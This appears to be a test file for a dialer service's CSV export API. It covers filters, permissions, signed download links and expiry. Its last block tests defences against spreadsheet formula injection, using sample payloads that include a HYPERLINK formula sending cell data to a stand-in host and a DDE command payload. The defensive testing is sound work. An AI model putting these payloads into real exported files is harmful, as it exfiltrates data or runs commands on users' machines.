import { afterAll, beforeAll, describe, expect, setDefaultTimeout, test } from 'bun:test'
import { existsSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { createHarness, scratchDir, seedWorld, START, type Harness, type Reply, type TestKey, type World, expectError } from '../harness'

// Bun reads the default test timeout per file only (docs/decisions.md, "Tests").
setDefaultTimeout(60_000)

/**
 * POST /exports, GET /exports and the signed download link (spec "Exports"; DESIGN.md
 * "Contract details": status pending|ready|failed|expired, 24-hour links, campaign-limited
 * keys refused, test keys get a sample file and an empty list).
 */

const LEAD_COLUMNS = 'id,external_id,campaign_id,name,phone,email,address,status,call_now,attempts,last_outcome,last_outcome_label,lead_source,created,updated'
const CALL_COLUMNS = 'id,lead_id,external_id,campaign_id,direction,status,outcome,outcome_label,duration_seconds,started,answered,ended,handled_by,note'
const ANALYTICS_COLUMNS = 'day,campaign_id,campaign_name,leads_added,calls,calls_connected,minutes'
const ny = (nn: string, series: number) => `+1212555${String(series).padStart(2, '0')}${nn}`

let h: Harness
let w: World
let dataDir: { path: string; remove: () => void }
let campaign2: string


const createExport = (body: unknown, key: TestKey = w.live, headers: Record<string, string> = {}) =>
  h.api('POST', '/exports', { key, body, headers })

/** Fetches a download link through the service (the path and query of the absolute URL). */
async function download(url: string) {
  const u = new URL(url)
  return h.call('GET', `${u.pathname}${u.search}`)
}

/** The CSV lines of a ready export (values in these tests hold no line breaks). */
async function linesOf(reply: Reply): Promise<string[]> {
  expect(reply.status).toBe(200)
  expect(reply.body.data.export.status).toBe('ready')
  const file = await download(reply.body.data.downloadUrl)
  expect(file.status).toBe(200)
  expect(file.headers.get('content-type')).toContain('text/csv')
  return file.text.trimEnd().split('\n')
}

beforeAll(async () => {
  dataDir = scratchDir('dialer-exports-')
  h = createHarness({ autoDial: true, env: { DIALER_DATA_DIR: dataDir.path, DIALER_PUBLIC_URL: 'https://dialer.example.com' } })
  w = await seedWorld(h)
  campaign2 = (await h.admin('POST', `/orgs/${w.orgId}/campaigns`, { name: 'Second', status: 'active', sdrs: [{ name: 'Kim' }] })).body.data.id
  // Three leads on January 5, two on January 7 (one in the second campaign); calls end; a count runs.
  await h.api('POST', '/leads', { key: w.live, body: { campaign_id: w.campaignId, phone: ny('01', 10), name: 'O\'Brien, "Pat"', external_id: 'crm-1' } })
  await h.api('POST', '/leads', { key: w.live, body: { campaign_id: w.campaignId, phone: ny('02', 11) } })
  await h.api('POST', '/leads', { key: w.live, body: { campaign_id: campaign2, phone: ny('09', 12) } })
  await h.advance(2 * 86_400)
  await h.api('POST', '/leads', { key: w.live, body: { campaign_id: w.campaignId, phone: ny('01', 13) } })
  await h.api('POST', '/leads', { key: w.live, body: { campaign_id: campaign2, phone: ny('01', 14) } })
  await h.advance(600)
})
afterAll(() => {
  h.close()
  dataDir.remove()
})

describe('POST /exports', () => {
  test('leads: a ready CSV with a header line, every lead of the organization, values quoted as CSV', async () => {
    const r = await createExport({ exportType: 'leads' })
    expect(r.status).toBe(200)
    const { export: exp, downloadUrl, livemode } = r.body.data
    expect(livemode).toBe(true)
    expect(exp).toMatchObject({ exportType: 'leads', status: 'ready', rowCount: 5, livemode: true })
    expect(Object.keys(exp).sort()).toEqual(['createdAt', 'expiresAt', 'exportType', 'id', 'livemode', 'rowCount', 'status'])
    expect(Date.parse(exp.expiresAt) - Date.parse(exp.createdAt)).toBe(24 * 3600 * 1000)
    expect(downloadUrl).toStartWith(`https://dialer.example.com/exports/${exp.id}/download?expires=`)
    const lines = await linesOf(r)
    expect(lines[0]).toBe(LEAD_COLUMNS)
    expect(lines).toHaveLength(6)
    expect(lines.find((l) => l.includes('crm-1'))).toContain('"O\'Brien, ""Pat"""')
    // The other organization's leads are not in it.
    expect(lines.join('\n')).not.toContain(w.otherCampaignId)
  })

  test('filters: campaignId, and startDate / endDate as whole days in the organization zone', async () => {
    const byCampaign = await linesOf(await createExport({ exportType: 'leads', filters: { campaignId: campaign2 } }))
    expect(byCampaign).toHaveLength(3)
    for (const line of byCampaign.slice(1)) expect(line).toContain(campaign2)
    expect(await linesOf(await createExport({ exportType: 'leads', filters: { startDate: '2026-01-07' } }))).toHaveLength(3)
    expect(await linesOf(await createExport({ exportType: 'leads', filters: { endDate: '2026-01-05' } }))).toHaveLength(4)
    expect(await linesOf(await createExport({ exportType: 'leads', filters: { startDate: '2026-01-06', endDate: '2026-01-06' } }))).toHaveLength(1)
    const both = await createExport({ exportType: 'leads', filters: { campaignId: w.campaignId, startDate: '2026-01-05', endDate: '2026-01-07' } })
    expect(both.body.data.export.rowCount).toBe(3)
  })

  test('call_history: one row per call with its outcome and duration', async () => {
    const calls = (await h.api('GET', '/calls?limit=100', { key: w.live })).body.data
    // Five leads; the no-answer one was tried again.
    expect(calls.length).toBe(7)
    const r = await createExport({ exportType: 'call_history' })
    const lines = await linesOf(r)
    expect(lines[0]).toBe(CALL_COLUMNS)
    expect(lines).toHaveLength(8)
    expect(r.body.data.export.rowCount).toBe(7)
    for (const call of calls) expect(lines.find((l) => l.startsWith(call.id))).toContain(`,${call.outcome},`)
    expect(lines.filter((l) => l.includes(',not_interested,')).length).toBe(3)
    expect(lines.find((l) => l.includes('crm-1'))).toContain('AI assistant (ai)')
  })

  test('analytics: the daily counts per campaign', async () => {
    const r = await createExport({ exportType: 'analytics' })
    const lines = await linesOf(r)
    expect(lines[0]).toBe(ANALYTICS_COLUMNS)
    const rows = lines.slice(1).map((l) => l.split(','))
    expect(rows.map((row) => row[0]).sort()).toEqual(['2026-01-05', '2026-01-05', '2026-01-07', '2026-01-07'])
    expect(rows.reduce((n, row) => n + Number(row[4]), 0)).toBe(7)
    expect(rows.reduce((n, row) => n + Number(row[3]), 0)).toBe(5)
    expect(rows.find((row) => row[1] === campaign2)![2]).toBe('Second')
  })

  test('Idempotency-Key replays the same export', async () => {
    const headers = { 'idempotency-key': 'export-once-1' }
    const first = await createExport({ exportType: 'leads' }, w.live, headers)
    const again = await createExport({ exportType: 'leads' }, w.live, headers)
    expect(again.headers.get('idempotent-replayed')).toBe('true')
    expect(again.body.data.export.id).toBe(first.body.data.export.id)
    expectError(await createExport({ exportType: 'call_history' }, w.live, headers), 409, 'idempotency_mismatch')
  })

  test.each([
    [{ exportType: 'contacts' }, 'exportType'],
    [{}, 'exportType'],
    [{ exportType: 'leads', filters: { startDate: '2026-01-08', endDate: '2026-01-07' } }, 'filters.endDate'],
    [{ exportType: 'leads', filters: { startDate: '2026-02-30' } }, 'filters.startDate'],
    [{ exportType: 'leads', filters: { endDate: 'yesterday' } }, 'filters.endDate'],
    [{ exportType: 'leads', filters: { campaignId: 'not-a-uuid' } }, 'filters.campaignId'],
    [{ exportType: 'leads', filters: { owner: 'x' } }, 'filters.owner'],
    [{ exportType: 'leads', format: 'xlsx' }, 'format'],
  ])('%j is 400 invalid_request naming %s', async (body, param) => {
    expectError(await createExport(body), 400, 'invalid_request', param)
  })

  test("another organization's campaign is 404", async () => {
    expectError(await createExport({ exportType: 'leads', filters: { campaignId: w.otherCampaignId } }), 404, 'not_found', 'filters.campaignId')
  })

  test('a campaign-limited key is refused: 403 with campaign_id null', async () => {
    const r = await createExport({ exportType: 'leads' }, w.scoped)
    expectError(r, 403, 'permission_denied')
    expect(r.body.error.campaign_id).toBeNull()
    expectError(await h.api('GET', '/exports', { key: w.scoped }), 403, 'permission_denied')
  })

  test('needs leads:read and calls:read', async () => {
    const leadsOnly = await h.createKey(w.orgId, { name: 'leads only', mode: 'live', permissions: ['leads:read'] })
    const r = await createExport({ exportType: 'leads' }, leadsOnly)
    expectError(r, 403, 'permission_denied')
    expect(r.body.error.missing_permission).toBe('calls:read')
    const callsOnly = await h.createKey(w.orgId, { name: 'calls only', mode: 'live', permissions: ['calls:read'] })
    expect((await createExport({ exportType: 'leads' }, callsOnly)).body.error.missing_permission).toBe('leads:read')
  })

  test('a test key gets a sample file with the same columns, and an empty list', async () => {
    const r = await createExport({ exportType: 'call_history' }, w.test)
    expect(r.status).toBe(200)
    expect(r.body.data.livemode).toBe(false)
    expect(r.body.data.export.livemode).toBe(false)
    const lines = await linesOf(r)
    expect(lines[0]).toBe(CALL_COLUMNS)
    expect(lines.length).toBeGreaterThan(1)
    const list = await h.api('GET', '/exports', { key: w.test })
    expect(list.status).toBe(200)
    expect(list.body).toEqual({ data: [] })
  })
})

describe('GET /exports and the download link', () => {
  test("lists the organization's live exports, newest first", async () => {
    const made = await createExport({ exportType: 'analytics' })
    const r = await h.api('GET', '/exports', { key: w.live })
    expect(r.status).toBe(200)
    expect(r.body.data[0]).toEqual(made.body.data.export)
    expect(r.body.data.length).toBeGreaterThan(5)
    expect((await h.api('GET', '/exports', { key: w.otherLive })).body.data).toEqual([])
  })

  test('a tampered link is 403 and never the file', async () => {
    const r = await createExport({ exportType: 'leads' })
    const url = new URL(r.body.data.downloadUrl)
    const signature = url.searchParams.get('signature')!
    const flipped = `${signature.slice(0, -1)}${signature.endsWith('A') ? 'B' : 'A'}`
    const other = await createExport({ exportType: 'call_history' })
    const cases = [
      `${url.pathname}?expires=${url.searchParams.get('expires')}&signature=${flipped}`,
      `${url.pathname}?expires=${Number(url.searchParams.get('expires')) + 3600}&signature=${signature}`,
      `${url.pathname}?expires=${url.searchParams.get('expires')}`,
      url.pathname,
      // Another export's id under this export's signature.
      `/exports/${other.body.data.export.id}/download${url.search}`,
    ]
    for (const path of cases) {
      const reply = await h.call('GET', path)
      expect(reply.status).toBe(403)
      expect(reply.body.error.code).toBe('permission_denied')
      expect(reply.text).not.toContain('phone')
    }
  })

  test('after 24 hours the link is refused, the list says expired and the cleanup job removes the file', async () => {
    const r = await createExport({ exportType: 'leads' })
    const id = r.body.data.export.id
    const file = join(dataDir.path, 'exports', `${id}.csv`)
    expect(existsSync(file)).toBe(true)
    expect((await download(r.body.data.downloadUrl)).status).toBe(200)
    await h.advance(24 * 3600)
    const refused = await download(r.body.data.downloadUrl)
    expect(refused.status).toBe(403)
    expect(refused.text).not.toContain(LEAD_COLUMNS)
    const listed = (await h.api('GET', '/exports', { key: w.live })).body.data.find((e: any) => e.id === id)
    expect(listed.status).toBe('expired')
    // The hourly export_cleanup job.
    await h.advance(3600)
    expect(existsSync(file)).toBe(false)
  })

  test('the cleanup job can be run by hand through the admin API', async () => {
    const r = await h.admin('POST', '/jobs/export_cleanup/run')
    expect(r.status).toBe(200)
  })

  test('a link to an export that does not exist is 403 (the signature cannot match)', async () => {
    const reply = await h.call('GET', `/exports/00000000-0000-7000-8000-000000000000/download?expires=${Math.floor(START / 1000) + 999_999}&signature=abc`)
    expect(reply.status).toBe(403)
  })
})

describe('formula injection', () => {
  // Text a spreadsheet would run as a formula (OWASP "CSV Injection").
  const FORMULAS = {
    name: '=HYPERLINK("http://evil.example/?x="&A1)',
    external_id: "+cmd|' /C calc'!A0",
    address: '@SUM(1+1)',
    email: '-x@example.com',
    campaign: '=1+1 roofs',
    sdr: '@SDR',
    label: '=label()',
    note: '\t=note()',
  }
  const TRIGGER = /^[=+\-@\t\r]/

  test('every text cell of every export that starts with = + - @ tab or CR gets a leading quote; phones, numbers, ids and times stay as they are', async () => {
    const dir = scratchDir('dialer-exports-formula-')
    const fh = createHarness({ autoDial: true, env: { DIALER_DATA_DIR: dir.path } })
    try {
      const org = (await fh.admin('POST', '/orgs', { name: 'Formula Org', plan_requests_per_minute: 100000 })).body.data.id
      const campaign = await fh.admin('POST', `/orgs/${org}/campaigns`, { name: FORMULAS.campaign, status: 'active', sdrs: [{ name: FORMULAS.sdr }] })
      expect(campaign.status).toBe(201)
      const key = await fh.createKey(org, { name: 'live', mode: 'live', requests_per_minute: 100000, burst: 100000 })
      // Scenario 00: a person answers and the SDR takes the call (handled_by names the SDR).
      const lead = await fh.api('POST', '/leads', { key, body: {
        campaign_id: campaign.body.data.id, phone: ny('00', 30), name: FORMULAS.name, external_id: FORMULAS.external_id,
        address: FORMULAS.address, email: FORMULAS.email, fields: { note: '=1+1' },
      } })
      expect(lead.status).toBe(201)
      await fh.advance(600)
      const calls = (await fh.api('GET', `/calls?lead_id=${lead.body.data.id}`, { key })).body.data
      expect(calls.length).toBe(1)
      expect((await fh.admin('POST', `/calls/${calls[0].id}/outcome`, { outcome_label: FORMULAS.label, note: FORMULAS.note })).status).toBe(200)
      // The usage count (analytics) runs every 5 minutes.
      await fh.advance(600)

      const fetchCsv = async (exportType: string): Promise<Record<string, string>[]> => {
        const made = await fh.api('POST', '/exports', { key, body: { exportType } })
        expect(made.body.data.export.status).toBe('ready')
        const u = new URL(made.body.data.downloadUrl)
        const file = await fh.call('GET', `${u.pathname}${u.search}`)
        expect(file.status).toBe(200)
        return parse(file.text, { columns: true }) as Record<string, string>[]
      }
      const [leads, history, analytics] = [await fetchCsv('leads'), await fetchCsv('call_history'), await fetchCsv('analytics')]
      expect([leads.length, history.length, analytics.length]).toEqual([1, 1, 1])
      const [l, c, a] = [leads[0]!, history[0]!, analytics[0]!]
      expect(l).toMatchObject({
        name: `'${FORMULAS.name}`, external_id: `'${FORMULAS.external_id}`, address: `'${FORMULAS.address}`, email: `'${FORMULAS.email}`,
        last_outcome_label: `'${FORMULAS.label}`, phone: ny('00', 30), id: lead.body.data.id, attempts: '1',
      })
      expect(c).toMatchObject({
        external_id: `'${FORMULAS.external_id}`, outcome_label: `'${FORMULAS.label}`, note: `'${FORMULAS.note}`,
        handled_by: `'${FORMULAS.sdr} (sdr)`, id: calls[0].id, started: calls[0].started,
      })
      expect(a.campaign_name).toBe(`'${FORMULAS.campaign}`)
      expect(a.calls).toBe('1')
      // No cell but the phone starts a formula.
      for (const row of [l, c, a]) {
        for (const [column, cell] of Object.entries(row)) if (column !== 'phone') expect({ column, cell, formula: TRIGGER.test(cell) }).toEqual({ column, cell, formula: false })
      }
    } finally {
      fh.close()
      dir.remove()
    }
  })
})
